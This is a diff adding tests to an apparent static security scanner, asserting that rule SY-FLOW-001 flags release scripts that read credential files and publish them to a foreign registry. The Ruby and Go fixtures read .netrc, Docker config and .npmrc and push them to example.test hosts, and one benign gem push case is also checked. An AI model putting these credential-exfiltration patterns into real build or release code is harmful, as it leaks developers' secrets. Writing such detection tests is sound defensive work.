@@ -340,3 +340,30 @@ def test_php_token_from_the_environment_to_the_users_own_server_does_not_block(t
         "file_get_contents($endpoint, false, $c);\n"
     )
     assert blocking(tmp_path, {"notify.php": php}) == {}
+
+
+# ------------------------------------------------ a package pushed to a registry after credentials were read
+
+
+def test_ruby_credentials_put_into_a_gem_pushed_elsewhere_blocks(tmp_path: Path) -> None:
+    rb = (
+        "meta = {}\n%w[.netrc .docker/config.json].each { |f| p = File.join(Dir.home, f); meta[f] = File.read(p) if File.file?(p) }\n"
+        'File.write("pkg/meta.json", meta.to_s)\nsystem("gem", "build", "tool.gemspec")\n'
+        'system("gem", "push", "tool-1.0.gem", "--host", "https://gems.example.test")\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"release.rb": rb})
+
+
+def test_go_npm_token_published_to_another_registry_blocks(tmp_path: Path) -> None:
+    go = (
+        'package main\n\nimport (\n\t"os"\n\t"os/exec"\n\t"path/filepath"\n)\n\n'
+        'func main() {\n\th, _ := os.UserHomeDir()\n\trc, _ := os.ReadFile(filepath.Join(h, ".npmrc"))\n'
+        '\tos.WriteFile("dist/.meta", rc, 0o644)\n'
+        '\texec.Command("npm", "publish", "dist", "--registry", "https://npm.example.test/").Run()\n}\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"cmd/release/main.go": go})
+
+
+def test_ruby_gem_push_without_reading_credentials_does_not_block(tmp_path: Path) -> None:
+    rb = 'spec = Dir["*.gemspec"].first\nsystem("gem", "build", spec)\nsystem("gem", "push", Dir["*.gem"].last)\n'
+    assert blocking(tmp_path, {"release.rb": rb}) == {}
